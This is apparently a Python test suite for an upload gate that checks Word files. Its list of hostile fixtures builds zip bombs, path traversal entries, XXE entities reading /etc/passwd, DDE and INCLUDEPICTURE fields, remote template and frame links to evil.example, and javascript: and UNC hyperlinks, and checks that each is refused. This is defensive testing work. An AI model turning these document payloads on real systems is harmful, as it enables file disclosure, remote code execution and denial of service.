"""Hostile Word files are refused with a Dutch sentence, ordinary ones are not."""

import io
import struct
import tracemalloc
import zipfile

import pytest
from docx import Document

from documents.errors import TemplateError
from documents.gate import check_package
from tests.documents.word_files import changed, in_body, replaced, word

RELATIONSHIPS = "word/_rels/document.xml.rels"
TYPES = "[Content_Types].xml"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def related(kind: str, target: str, mode: str = ' TargetMode="External"') -> bytes:
    entry = f'<Relationship Id="rIdX" Type="{OFFICE}/{kind}" Target="{target}"{mode}/></Relationships>'
    return replaced(word("tekst"), RELATIONSHIPS, b"</Relationships>", entry.encode())


def field(code: str) -> bytes:
    return in_body(f'<w:p><w:fldSimple w:instr="{code}"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'.encode())


def split_field(*pieces: str) -> bytes:
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    return in_body(f"<w:p>{begin}{runs}{end}</w:p>".encode())


def duplicated() -> bytes:
    stream = io.BytesIO(word("goed"))
    with pytest.warns(UserWarning, match="Duplicate"), zipfile.ZipFile(stream, "a") as archive:
        archive.writestr("word/document.xml", b"<kwaad/>")
    return stream.getvalue()


def overlapping() -> bytes:
    """Two members of which the second starts inside the first, as the bombs do that unpack the same bytes often."""
    data = bytearray(changed(word("tekst"), {"word/aa.bin": b"\0" * 40, "word/bb.bin": b"\0" * 40}))
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as archive:
        first = archive.getinfo("word/aa.bin").header_offset
    entry = data.rindex(b"word/bb.bin") - 46
    struct.pack_into("<I", data, entry + 42, first)
    return bytes(data)


def with_size(size: int) -> bytes:
    """A member that says it has another size than it has."""
    data = bytearray(word("tekst"))
    entry = data.rindex(b"word/document.xml") - 46
    struct.pack_into("<I", data, entry + 24, size)
    return bytes(data)


def encrypted() -> bytes:
    data = bytearray(word("tekst"))
    entry = data.rindex(b"word/document.xml") - 46
    struct.pack_into("<H", data, entry + 8, 1)
    return bytes(data)


ENTITIES = b'<!DOCTYPE w:document [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;">]>'
DOCUMENT = b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p/></w:body></w:document>'
XXE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><x>&f;</x>'

HOSTILE = {
    "empty": lambda: b"",
    "text": lambda: b"dit is geen Word",
    "old Word": lambda: b"\xd0\xcf\x11\xe0" + b"\0" * 600,
    "other zip": lambda: changed(word("x"), {TYPES: None}),
    "cut off": lambda: word("tekst")[:-200],
    "too large": lambda: b"PK" + b"\0" * (21 << 20),
    "bomb": lambda: changed(word("x"), {"word/media/a.xml": b" " * (30 << 20)}),
    "many bombs": lambda: changed(word("x"), {f"word/media/{number}.bin": b"\0" * (15 << 20) for number in range(5)}),
    "many members": lambda: changed(word("x"), {f"word/{number}.bin": b"" for number in range(2_000)}),
    "many elements": lambda: in_body(b"<w:p/>" * 400_000),
    "deep": lambda: in_body(b"<w:p>" * 5_000 + b"</w:p>" * 5_000),
    "duplicate": duplicated,
    "duplicate in another case": lambda: changed(word("x"), {"word/Document.xml": DOCUMENT}),
    "overlap": overlapping,
    "says too little": lambda: with_size(10),
    "says too much": lambda: with_size(5_000_000),
    "encrypted": encrypted,
    "climbs out": lambda: changed(word("x"), {"../../etc/passwd": b"x"}),
    "absolute": lambda: changed(word("x"), {"/etc/passwd": b"x"}),
    "backslash": lambda: changed(word("x"), {"word\\x.xml": b"<x/>"}),
    "entities": lambda: changed(word("x"), {"word/document.xml": ENTITIES + DOCUMENT}),
    "entities in the relationships": lambda: changed(word("x"), {"word/_rels/x.xml.rels": XXE}),
    "entities in a part of another name": lambda: changed(word("x"), {"word/theme/kleur.dat": XXE}),
    "entities in UTF-16": lambda: changed(word("x"), {"customXml/item1.xml": XXE.decode().encode("utf-16")}),
    "UTF-7": lambda: changed(word("x"), {"customXml/item1.xml": b'<?xml version="1.0" encoding="UTF-7"?><x/>'}),
    "EBCDIC": lambda: changed(word("x"), {"word/header9.dat": '<?xml version="1.0" encoding="cp037"?><x/>'.encode("cp037")}),
    "broken XML": lambda: changed(word("x"), {"word/document.xml": DOCUMENT[:-5]}),
    "macro": lambda: changed(word("x"), {"word/vbaProject.bin": b"x"}),
    "macro type": lambda: replaced(word("x"), TYPES, b"document.main+xml", b"document.macroEnabled.main+xml"),
    "template type": lambda: replaced(word("x"), TYPES, b"document.main+xml", b"template.main+xml"),
    "strict": lambda: replaced(
        word("x"), "word/document.xml", b"schemas.openxmlformats.org/wordprocessingml/2006/main", b"purl.oclc.org/ooxml/main"
    ),
    "linked picture": lambda: related("image", "http://evil.example/x.png"),
    "attached template": lambda: related("attachedTemplate", "http://evil.example/x.dotm"),
    "linked object": lambda: related("oleObject", "file:///c:/x.xlsx"),
    "embedded object": lambda: related("oleObject", "embeddings/x.bin", ""),
    "embedded package": lambda: related("package", "embeddings/x.xlsx", ""),
    "inserted file": lambda: related("aFChunk", "x.html", ""),
    "control": lambda: related("control", "activeX/x.xml", ""),
    "sub document": lambda: related("subDocument", "http://evil.example/x.docx"),
    "frame": lambda: related("frame", "http://evil.example/x.docx"),
    "script link": lambda: related("hyperlink", "javascript:alert(1)"),
    "file link": lambda: related("hyperlink", "file:///etc/passwd"),
    "share link": lambda: related("hyperlink", "\\\\evil.example\\share"),
    "relationship that climbs out": lambda: related("image", "../../x.png", ""),
    "relationship to a file": lambda: related("image", "file:///etc/passwd", ""),
    "external in another case": lambda: related("image", "http://evil.example/x.png", ' TargetMode="EXTERNAL"'),
    "altChunk": lambda: in_body(b'<w:altChunk w:id="a"/>'),
    "subDoc": lambda: in_body(b'<w:p><w:subDoc w:id="a"/></w:p>'),
    "object": lambda: in_body(b"<w:p><w:r><w:object/></w:r></w:p>"),
    "drawing that fetches": lambda: in_body(
        b'<w:p><w:r><w:pict><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="http://evil.example/x"/></w:pict></w:r></w:p>'
    ),
    **{
        f"field {code}": (lambda code=code: field(code))
        for code in (
            "DDEAUTO c:\\\\x.exe", " dde x", "INCLUDEPICTURE &quot;http://evil.example&quot;", "INCLUDETEXT x", "LINK Excel",
            "IMPORT x", "DATABASE x", "MACROBUTTON x", "QUOTE 68", "AUTOTEXT x", "HYPERLINK &quot;javascript:x&quot;",
            "HYPERLINK \\\\\\\\evil\\\\x", "HYPERLINK \\l &quot;a&quot; &quot;file:///etc/passwd&quot;",
        )
    },
    "field in pieces": lambda: split_field(" IN", "CLUDE", "PICTURE ", '"http://evil.example"'),
    "field inside a field": lambda: in_body(
        b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>IF 1</w:instrText></w:r>'
        b'<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE x</w:instrText></w:r>'
        b'<w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    ),
    "field without a beginning": lambda: in_body(b"<w:p><w:r><w:instrText>DDEAUTO x</w:instrText></w:r></w:p>"),
}  # fmt: skip


@pytest.mark.filterwarnings("ignore:Duplicate name")
@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_file_is_refused_with_a_dutch_sentence(name):
    data = HOSTILE[name]()
    with pytest.raises(TemplateError) as refusal:
        check_package(data)
    assert str(refusal.value).endswith(".")
    assert (
        " is " in str(refusal.value)
        or " bevat " in str(refusal.value)
        or "Dit " in str(refusal.value)
        or "In " in str(refusal.value)
    )


def test_a_bomb_takes_little_memory():
    bomb = changed(word("x"), {f"word/media/{number}.bin": b"\0" * (15 << 20) for number in range(5)})
    tracemalloc.start()
    with pytest.raises(TemplateError):
        check_package(bomb)
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert peak < 20 << 20


HARMLESS = {
    "plain": lambda: word("tekst", table=("a", "b"), header="kop", footer="voet"),
    "web link": lambda: related("hyperlink", "https://www.example.nl/pad?x=1&amp;y=2#z"),
    "mail link": lambda: related("hyperlink", "mailto:info@example.nl"),
    "telephone link": lambda: related("hyperlink", "tel:+31201234567"),
    "link inside": lambda: related("hyperlink", "#kop"),
    "page number": lambda: field(" PAGE  \\* MERGEFORMAT "),
    "table of contents": lambda: split_field(" TO", 'C \\o "1-3" \\h \\z \\u '),
    "text that LibreOffice asks for": lambda: field(" FILLIN &quot;Hoe heet uw kind?&quot; "),
    "line of a letter to many": lambda: field(" GREETINGLINE \\f &quot;Beste&quot; "),
    "link field": lambda: split_field(' HYPERLINK "https://www.example.nl" \\o "Naar de site" '),
    "link to a heading": lambda: split_field(' HYPERLINK \\l "_Toc123" '),
    "words about fields": lambda: word("Wij gebruiken geen DDE en INCLUDETEXT & <w:altChunk>"),
}


@pytest.mark.parametrize("name", HARMLESS)
def test_an_ordinary_file_passes(name):
    assert "word/document.xml" in check_package(HARMLESS[name]()).names


def test_a_word_file_with_a_picture_passes():
    picture = (
        b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0\x1f\x15\xc4\x89\0\0\0\rIDATx\x9cc\xf8\xcf\xc0\xf0\x1f\0\x05\0\x01"
        b"\xff\x89\x99=\x1d\0\0\0\0IEND\xaeB`\x82"
    )
    document = Document()
    document.add_picture(io.BytesIO(picture))
    stream = io.BytesIO()
    document.save(stream)
    assert check_package(stream.getvalue())
